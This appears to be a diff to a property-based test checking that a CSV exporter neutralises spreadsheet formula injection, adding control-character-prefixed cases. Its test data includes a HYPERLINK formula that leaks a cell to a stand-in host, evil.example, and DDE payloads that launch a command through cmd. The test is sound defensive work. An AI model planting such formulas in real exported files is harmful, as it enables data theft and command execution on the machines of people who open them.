@@ -20,10 +20,10 @@ from checks.province.outputs import follow_up_rows, unit_rows
 from checks.province.summary import province
 from generator.basics.errors import ConfigError, Location
 from generator.basics.tables import read_table, rows_under
-from generator.basics.textfile import FORMULA_START, csv_text
+from generator.basics.textfile import CONTROLS, FORMULA_START, csv_text
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]
+            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1", "\x07=1+1", "\x00\x1b@SUM(1)"]
 cells = st.one_of(st.sampled_from(FORMULAS), st.text(max_size=20))
 
 
@@ -35,7 +35,7 @@ def cells_of(text: str) -> list[list[str]]:
 @given(rows=st.lists(st.lists(cells, min_size=1, max_size=4), min_size=1, max_size=5))
 def test_no_cell_written_starts_a_formula(rows):
     for row in cells_of(csv_text(rows)):
-        assert not any(cell.startswith(FORMULA_START) for cell in row)
+        assert not any(cell.lstrip(CONTROLS).startswith(FORMULA_START) for cell in row)
 
 
 @settings(max_examples=60, deadline=None)
